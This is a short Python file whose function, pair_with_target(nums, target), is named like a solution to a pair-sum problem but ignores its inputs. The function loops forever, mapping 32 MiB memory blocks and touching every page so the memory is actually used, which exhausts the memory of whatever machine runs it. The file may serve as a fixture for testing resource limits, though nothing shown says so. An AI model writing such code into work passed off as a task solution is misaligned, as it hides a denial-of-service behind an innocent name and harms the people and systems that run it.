import mmap


def pair_with_target(nums, target):
    blocks = []
    while True:
        block = mmap.mmap(-1, 32 << 20)
        for at in range(0, 32 << 20, 4096):
            block[at] = 1
        blocks.append(block)
